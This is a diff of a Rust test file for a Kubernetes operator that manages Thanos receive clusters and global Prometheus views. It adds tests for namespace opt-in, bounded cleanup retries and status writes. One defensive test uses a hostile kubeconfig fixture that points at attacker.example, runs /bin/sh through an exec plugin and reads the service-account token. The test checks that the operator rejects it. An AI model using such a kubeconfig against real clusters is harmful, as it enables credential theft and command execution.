@@ -11,8 +11,9 @@ use kube::runtime::controller::Action;
 use kube::{Client, Resource};
 use operator::controller::{Context, global_view, receive};
 use operator::crd::{
-    ClusterSpec, GlobalView, GlobalViewSpec, HashringAlgorithm, PrometheusRef, ReceiveCluster,
-    ReceiveClusterSelector, ReceiveClusterSpec, ReceiveClusterStatus, StorageSpec,
+    ClusterSpec, ClusterStatus, ConfigMapRef, GlobalView, GlobalViewSpec, GlobalViewStatus,
+    HashringAlgorithm, PrometheusRef, ReceiveCluster, ReceiveClusterSelector, ReceiveClusterSpec,
+    ReceiveClusterStatus, RemoteClusterSecretRef, StorageSpec,
 };
 use operator::metrics::Metrics;
 use operator::probe::{BoxFut, Probe, ProbeError};
@@ -100,6 +101,8 @@ async fn expect_apply(handle: &mut ApiHandle, path: &str, extra: Value) -> Value
 
 struct FakeProbe {
     age: Option<f64>,
+    /// URLs `reload()` was called with.
+    reloads: std::sync::Mutex<Vec<String>>,
 }
 
 impl Probe for FakeProbe {
@@ -112,22 +115,27 @@ impl Probe for FakeProbe {
         let age = self.age;
         Box::pin(async move { Ok(age) })
     }
-    fn reload<'a>(&'a self, _url: &'a str) -> BoxFut<'a, Result<(), ProbeError>> {
+    fn reload<'a>(&'a self, url: &'a str) -> BoxFut<'a, Result<(), ProbeError>> {
+        self.reloads.lock().unwrap().push(url.to_string());
         Box::pin(async { Ok(()) })
     }
 }
 
 fn context(age: Option<f64>) -> (Arc<Context>, ApiHandle, Arc<Metrics>) {
+    let (ctx, handle, metrics, _) = context_with_probe(age);
+    (ctx, handle, metrics)
+}
+
+fn context_with_probe(age: Option<f64>) -> (Arc<Context>, ApiHandle, Arc<Metrics>, Arc<FakeProbe>) {
     let (svc, handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
     let client = Client::new(svc, "default");
     let metrics = Arc::new(Metrics::new());
-    let ctx = Context::new(
-        client,
-        "orrery:test".into(),
-        metrics.clone(),
-        Arc::new(FakeProbe { age }),
-    );
-    (Arc::new(ctx), handle, metrics)
+    let probe = Arc::new(FakeProbe {
+        age,
+        reloads: Default::default(),
+    });
+    let ctx = Context::new(client, "orrery:test".into(), metrics.clone(), probe.clone());
+    (Arc::new(ctx), handle, metrics, probe)
 }
 
 fn receive_cluster() -> ReceiveCluster {
@@ -242,7 +250,8 @@ async fn receive_cluster_create_applies_children_then_status() {
         json!({}),
     )
     .await;
-    assert_eq!(pdb["spec"]["maxUnavailable"], 0);
+    // RF=1: one receiver may be evicted; 0 would block every node drain (D8).
+    assert_eq!(pdb["spec"]["maxUnavailable"], 1);
 
     let st = expect(
         &mut api,
@@ -631,7 +640,7 @@ fn global_view(deleting: bool) -> GlobalView {
                     namespace: Some("monitoring".into()),
                 }),
                 config_map_ref: None,
-                kubeconfig_secret_ref: None,
+                remote_cluster_secret_ref: None,
                 remote_write_url: None,
                 tenant: Some("wayne".into()),
             }],
@@ -655,7 +664,9 @@ fn global_view(deleting: bool) -> GlobalView {
 fn prometheus(rv: &str, entries: Value) -> Value {
     json!({
         "apiVersion": "monitoring.coreos.com/v1", "kind": "Prometheus",
-        "metadata": {"name": "batcave", "namespace": "monitoring", "resourceVersion": rv},
+        // In another namespace than the GlobalView: it opts in (D2).
+        "metadata": {"name": "batcave", "namespace": "monitoring", "resourceVersion": rv,
+                     "annotations": {"orrery.dev/allow-globalviews-from": "team-a, orrery"}},
         "spec": {"replicas": 1, "remoteWrite": entries}
     })
 }
@@ -752,7 +763,8 @@ async fn global_view_conflict_on_prometheus_is_retried() {
     let c = &body["status"]["clusters"][0];
     assert_eq!(c["name"], "batcave");
     assert_eq!(c["remoteWriteConfigured"], true);
-    assert_eq!(c["lastSampleAge"], "3s");
+    // No clock-derived value in status (D4).
+    assert!(c.get("lastSampleAge").is_none(), "{c}");
     assert_eq!(c["prometheusRef"]["namespace"], "monitoring");
     let flowing = c["conditions"]
         .as_array()
@@ -808,4 +820,415 @@ async fn global_view_deletion_removes_only_our_entry_then_finalizer() {
     respond(s.send, 200, &gv);
     let action = reconciler.await.unwrap().unwrap();
     assert_eq!(action, Action::await_change());
+}
+
+/// Answers the requests every GlobalView apply starts with: the ReceiveCluster list,
+/// the querier Deployment and Service.
+async fn global_view_prefix(api: &mut ApiHandle) {
+    let s = expect(
+        api,
+        Method::GET,
+        "/apis/orrery.dev/v1alpha1/namespaces/orrery/receiveclusters",
+    )
+    .await;
+    let mut rc = receive_cluster();
+    rc.status = Some(ReceiveClusterStatus {
+        remote_write_url: Some("http://main-receive.orrery.svc:19291/api/v1/receive".into()),
+        ..Default::default()
+    });
+    respond(
+        s.send,
+        200,
+        &json!({"apiVersion": "orrery.dev/v1alpha1", "kind": "ReceiveClusterList", "metadata": {}, "items": [rc]}),
+    );
+    expect_apply(
+        api,
+        "/apis/apps/v1/namespaces/orrery/deployments/global-query",
+        json!({"status": {"readyReplicas": 1}}),
+    )
+    .await;
+    expect_apply(
+        api,
+        "/api/v1/namespaces/orrery/services/global-query",
+        json!({}),
+    )
+    .await;
+}
+
+const GV_STATUS: &str = "/apis/orrery.dev/v1alpha1/namespaces/orrery/globalviews/global/status";
+const GV_PATH: &str = "/apis/orrery.dev/v1alpha1/namespaces/orrery/globalviews/global";
+const EVENTS: &str = "/apis/events.k8s.io/v1/namespaces/orrery/events";
+
+/// A GlobalView whose one cluster is a prometheus.yml ConfigMap.
+fn global_view_config_map(deleting: bool, namespace: Option<&str>) -> GlobalView {
+    let mut gv = global_view(deleting);
+    gv.spec.clusters[0].prometheus_ref = None;
+    gv.spec.clusters[0].config_map_ref = Some(ConfigMapRef {
+        name: "prometheus".into(),
+        namespace: namespace.map(String::from),
+        key: "prometheus.yml".into(),
+        reload_url: Some("http://prometheus.orrery.svc:9090/-/reload".into()),
+    });
+    gv
+}
+
+fn config_map(ns: &str, yml: &str) -> Value {
+    json!({"apiVersion": "v1", "kind": "ConfigMap",
+           "metadata": {"name": "prometheus", "namespace": ns, "resourceVersion": "3"},
+           "data": {"prometheus.yml": yml}})
+}
+
+fn cluster_condition<'a>(status: &'a Value, ty: &str) -> &'a Value {
+    status["status"]["clusters"][0]["conditions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["type"] == ty)
+        .unwrap()
+}
+
+/// Expects an Event POST with `reason`, answering it; returns its note.
+async fn expect_event(api: &mut ApiHandle, reason: &str) -> String {
+    // The Recorder POSTs an event once, then PATCHes it as a series on repeats.
+    let s = next(api).await;
+    assert!(
+        (s.method == Method::POST && s.path == EVENTS)
+            || (s.method == Method::PATCH && s.path.starts_with(EVENTS)),
+        "expected an Event, got {} {} {}",
+        s.method,
+        s.path,
+        s.body
+    );
+    assert_eq!(s.body["reason"], reason, "{}", s.body);
+    assert_eq!(s.body["type"], "Warning");
+    let note = s.body["note"].as_str().unwrap_or_default().to_string();
+    let echoed = s.body.clone();
+    respond(s.send, 201, &echoed);
+    note
+}
+
+async fn expect_finalizer_removed(api: &mut ApiHandle) {
+    let s = expect(api, Method::PATCH, GV_PATH).await;
+    let ops = s.body.to_string();
+    assert!(
+        ops.contains("\"remove\"") && ops.contains("/metadata/finalizers"),
+        "{ops}"
+    );
+    let mut gv = serde_json::to_value(global_view(false)).unwrap();
+    gv["metadata"]["finalizers"] = json!([]);
+    respond(s.send, 200, &gv);
+}
+
+/// D1: a Secret that holds a kubeconfig (here with an exec plugin and a tokenFile) is
+/// refused; the operator makes no request to the server the kubeconfig names and the
+/// cluster reports RemoteWriteConfigured=False.
+#[tokio::test]
+async fn global_view_refuses_a_kubeconfig_secret() {
+    let (ctx, mut api, _) = context(Some(3.2));
+    let mut gv = global_view(false);
+    gv.spec.clusters[0].remote_cluster_secret_ref = Some(RemoteClusterSecretRef {
+        name: "batcave-cluster".into(),
+    });
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    global_view_prefix(&mut api).await;
+    let s = expect(
+        &mut api,
+        Method::GET,
+        "/api/v1/namespaces/orrery/secrets/batcave-cluster",
+    )
+    .await;
+    let kubeconfig = "apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: \"https://attacker.example\"}}]\n\
+        users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token, \
+        exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh}}}]\n\
+        contexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n";
+    let b64 =
+        serde_json::to_value(k8s_openapi::ByteString(kubeconfig.as_bytes().to_vec())).unwrap();
+    respond(
+        s.send,
+        200,
+        &json!({"apiVersion": "v1", "kind": "Secret",
+                "metadata": {"name": "batcave-cluster", "namespace": "orrery"},
+                "data": {"kubeconfig": b64}}),
+    );
+    // Next (and last) request: the status write, on our own API server.
+    let st = expect(&mut api, Method::PATCH, GV_STATUS).await;
+    let body = st.body.clone();
+    respond(
+        st.send,
+        200,
+        &serde_json::to_value(global_view(false)).unwrap(),
+    );
+    let c = cluster_condition(&body, "RemoteWriteConfigured");
+    assert_eq!(c["status"], "False");
+    assert_eq!(c["reason"], "RemoteClusterSecretInvalid");
+    assert!(
+        c["message"]
+            .as_str()
+            .unwrap()
+            .contains("kubeconfigs are not accepted"),
+        "{c}"
+    );
+    reconciler.await.unwrap().unwrap();
+    assert!(api.next_request().await.is_none());
+}
+
+/// D2: a GlobalView may not edit a ConfigMap in another namespace (here kube-system)
+/// that has not opted in: no PUT, and the reason says why.
+#[tokio::test]
+async fn global_view_cross_namespace_target_needs_opt_in() {
+    let (ctx, mut api, _) = context(None);
+    let gv = global_view_config_map(false, Some("kube-system"));
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    global_view_prefix(&mut api).await;
+    let s = expect(
+        &mut api,
+        Method::GET,
+        "/api/v1/namespaces/kube-system/configmaps/prometheus",
+    )
+    .await;
+    respond(s.send, 200, &config_map("kube-system", "global: {}\n"));
+    let st = expect(&mut api, Method::PATCH, GV_STATUS).await;
+    let body = st.body.clone();
+    respond(
+        st.send,
+        200,
+        &serde_json::to_value(global_view(false)).unwrap(),
+    );
+    let c = cluster_condition(&body, "RemoteWriteConfigured");
+    assert_eq!(c["status"], "False");
+    assert_eq!(c["reason"], "TargetNotAllowed");
+    assert!(
+        c["message"]
+            .as_str()
+            .unwrap()
+            .contains("orrery.dev/allow-globalviews-from=orrery"),
+        "{c}"
+    );
+    reconciler.await.unwrap().unwrap();
+    assert!(api.next_request().await.is_none(), "no PUT, no reload");
+}
+
+/// D3: deleting a GlobalView whose remote-cluster Secret is already gone (the namespace
+/// is being deleted) drops the finalizer, with a Warning Event naming what was left.
+#[tokio::test]
+async fn global_view_deletion_with_missing_secret_does_not_wedge() {
+    let (ctx, mut api, _) = context(None);
+    let mut gv = global_view(true);
+    gv.spec.clusters[0].remote_cluster_secret_ref = Some(RemoteClusterSecretRef {
+        name: "batcave-cluster".into(),
+    });
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    let s = expect(
+        &mut api,
+        Method::GET,
+        "/api/v1/namespaces/orrery/secrets/batcave-cluster",
+    )
+    .await;
+    respond(
+        s.send,
+        404,
+        &status(404, "NotFound", "secrets \"batcave-cluster\" not found"),
+    );
+    let note = expect_event(&mut api, "CleanupAbandoned").await;
+    assert!(note.contains("orrery-global-batcave"), "{note}");
+    expect_finalizer_removed(&mut api).await;
+    assert_eq!(reconciler.await.unwrap().unwrap(), Action::await_change());
+}
+
+/// D3: a 403 on the target is not retried forever either.
+#[tokio::test]
+async fn global_view_deletion_with_forbidden_target_does_not_wedge() {
+    let (ctx, mut api, _) = context(None);
+    let gv = global_view_config_map(true, None);
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    let s = expect(
+        &mut api,
+        Method::GET,
+        "/api/v1/namespaces/orrery/configmaps/prometheus",
+    )
+    .await;
+    respond(
+        s.send,
+        403,
+        &status(403, "Forbidden", "configmaps \"prometheus\" is forbidden"),
+    );
+    expect_event(&mut api, "CleanupAbandoned").await;
+    expect_finalizer_removed(&mut api).await;
+    assert_eq!(reconciler.await.unwrap().unwrap(), Action::await_change());
+}
+
+/// D3: a transient failure (500) is retried, but only MAX_CLEANUP_ATTEMPTS times.
+#[tokio::test]
+async fn global_view_deletion_retries_transient_errors_a_bounded_number_of_times() {
+    let (ctx, mut api, _) = context(None);
+    let gv = Arc::new(global_view_config_map(true, None));
+    for attempt in 1..=global_view::MAX_CLEANUP_ATTEMPTS {
+        let reconciler = tokio::spawn(global_view::reconcile(gv.clone(), ctx.clone()));
+        let s = expect(
+            &mut api,
+            Method::GET,
+            "/api/v1/namespaces/orrery/configmaps/prometheus",
+        )
+        .await;
+        respond(s.send, 500, &status(500, "InternalError", "etcd timeout"));
+        if attempt < global_view::MAX_CLEANUP_ATTEMPTS {
+            expect_event(&mut api, "CleanupRetrying").await;
+            let err = reconciler.await.unwrap().expect_err("kept for a retry");
+            // What the controller does with the error: count it for the backoff.
+            global_view::error_policy(gv.clone(), &err, ctx.clone());
+        } else {
+            expect_event(&mut api, "CleanupAbandoned").await;
+            expect_finalizer_removed(&mut api).await;
+            assert_eq!(reconciler.await.unwrap().unwrap(), Action::await_change());
+        }
+    }
+}
+
+/// D3: the documented escape: `orrery.dev/skip-cleanup: "true"` drops the finalizer
+/// without touching any target.
+#[tokio::test]
+async fn global_view_skip_cleanup_annotation_drops_the_finalizer() {
+    let (ctx, mut api, _) = context(None);
+    let mut gv = global_view(true);
+    gv.metadata.annotations = Some(BTreeMap::from([(
+        global_view::SKIP_CLEANUP_ANNOTATION.to_string(),
+        "true".to_string(),
+    )]));
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    expect_event(&mut api, "CleanupSkipped").await;
+    expect_finalizer_removed(&mut api).await;
+    assert_eq!(reconciler.await.unwrap().unwrap(), Action::await_change());
+}
+
+/// D9: removing our entry from a prometheus.yml ConfigMap asks Prometheus to reload.
+#[tokio::test]
+async fn global_view_deletion_reloads_prometheus_after_removal() {
+    let (ctx, mut api, _, probe) = context_with_probe(None);
+    let gv = global_view_config_map(true, None);
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    let path = "/api/v1/namespaces/orrery/configmaps/prometheus";
+    let yml = "global:\n  scrape_interval: 15s\nremote_write:\n- name: orrery-global-batcave\n  url: http://main-receive.orrery.svc:19291/api/v1/receive\n";
+    let s = expect(&mut api, Method::GET, path).await;
+    respond(s.send, 200, &config_map("orrery", yml));
+    let s = expect(&mut api, Method::PUT, path).await;
+    assert!(
+        !s.body["data"]["prometheus.yml"]
+            .as_str()
+            .unwrap()
+            .contains("orrery-global-batcave")
+    );
+    let echoed = s.body.clone();
+    respond(s.send, 200, &echoed);
+    expect_finalizer_removed(&mut api).await;
+    reconciler.await.unwrap().unwrap();
+    assert_eq!(
+        *probe.reloads.lock().unwrap(),
+        vec!["http://prometheus.orrery.svc:9090/-/reload".to_string()]
+    );
+}
+
+/// D4: two reconciles 1.4 s apart, with sample ages 12.2 s and 13.6 s: the second
+/// writes no status (a status write would trigger the next reconcile at once).
+#[tokio::test]
+async fn global_view_status_is_not_rewritten_when_only_the_sample_age_moved() {
+    let prom_path = "/apis/monitoring.coreos.com/v1/namespaces/monitoring/prometheuses/batcave";
+    let ours = json!({"name": "orrery-global-batcave",
+        "url": "http://main-receive.orrery.svc:19291/api/v1/receive",
+        "headers": {"THANOS-TENANT": "wayne"},
+        "writeRelabelConfigs": [{"action": "replace", "targetLabel": "cluster", "replacement": "batcave"}]});
+    let mut gv = global_view(false);
+    let mut first = Value::Null;
+    for age in [12.2, 13.6] {
+        let (ctx, mut api, _) = context(Some(age));
+        let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv.clone()), ctx));
+        global_view_prefix(&mut api).await;
+        let s = expect(&mut api, Method::GET, prom_path).await;
+        respond(s.send, 200, &prometheus("1", json!([ours.clone()])));
+        if first.is_null() {
+            let s = next(&mut api).await;
+            if s.method == Method::PUT {
+                panic!("settled entry rewritten: {}", s.body);
+            }
+            assert_eq!((&s.method, s.path.as_str()), (&Method::PATCH, GV_STATUS));
+            first = s.body.clone();
+            respond(
+                s.send,
+                200,
+                &serde_json::to_value(global_view(false)).unwrap(),
+            );
+            reconciler.await.unwrap().unwrap();
+            gv.status = Some(serde_json::from_value(first["status"].clone()).unwrap());
+        } else {
+            reconciler.await.unwrap().unwrap();
+            let more = tokio::time::timeout(Duration::from_secs(1), api.next_request()).await;
+            assert!(
+                matches!(more, Ok(None) | Err(_)),
+                "the second reconcile wrote something"
+            );
+        }
+    }
+    assert!(!first.to_string().contains("12s"), "{first}");
+}
+
+/// D5: a cluster that left the spec, whose entry cannot be removed (500), stays in
+/// status as pendingRemoval so later reconciles and cleanup still find it.
+#[tokio::test]
+async fn global_view_failed_stale_removal_keeps_the_cluster_in_status() {
+    let (ctx, mut api, _) = context(None);
+    let mut gv = global_view(false);
+    gv.spec.clusters.clear();
+    gv.status = Some(GlobalViewStatus {
+        clusters: vec![ClusterStatus {
+            name: "x".into(),
+            remote_write_configured: true,
+            config_map_ref: Some(ConfigMapRef {
+                name: "prometheus".into(),
+                namespace: None,
+                key: "prometheus.yml".into(),
+                reload_url: None,
+            }),
+            ..Default::default()
+        }],
+        ..Default::default()
+    });
+    let reconciler = tokio::spawn(global_view::reconcile(Arc::new(gv), ctx));
+    global_view_prefix(&mut api).await;
+    let path = "/api/v1/namespaces/orrery/configmaps/prometheus";
+    let s = expect(&mut api, Method::GET, path).await;
+    respond(
+        s.send,
+        200,
+        &config_map(
+            "orrery",
+            "remote_write:\n- name: orrery-global-x\n  url: http://r/api/v1/receive\n",
+        ),
+    );
+    let s = expect(&mut api, Method::PUT, path).await;
+    respond(s.send, 500, &status(500, "InternalError", "etcd timeout"));
+    let st = expect(&mut api, Method::PATCH, GV_STATUS).await;
+    let body = st.body.clone();
+    respond(
+        st.send,
+        200,
+        &serde_json::to_value(global_view(false)).unwrap(),
+    );
+    let clusters = body["status"]["clusters"].as_array().unwrap();
+    assert_eq!(clusters.len(), 1, "{body}");
+    assert_eq!(clusters[0]["name"], "x");
+    assert_eq!(clusters[0]["pendingRemoval"], true);
+    assert_eq!(clusters[0]["configMapRef"]["name"], "prometheus");
+    reconciler.await.unwrap().unwrap();
+}
+
+/// D19: a ReceiveCluster being deleted is left to the garbage collector: no requests.
+#[tokio::test]
+async fn receive_cluster_being_deleted_makes_no_requests() {
+    let (ctx, mut api, _) = context(None);
+    let mut rc = receive_cluster();
+    rc.metadata.deletion_timestamp = Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(
+        k8s_openapi::jiff::Timestamp::UNIX_EPOCH,
+    ));
+    let action = receive::reconcile(Arc::new(rc), ctx).await.unwrap();
+    assert_eq!(action, Action::await_change());
+    assert!(api.next_request().await.is_none());
 }
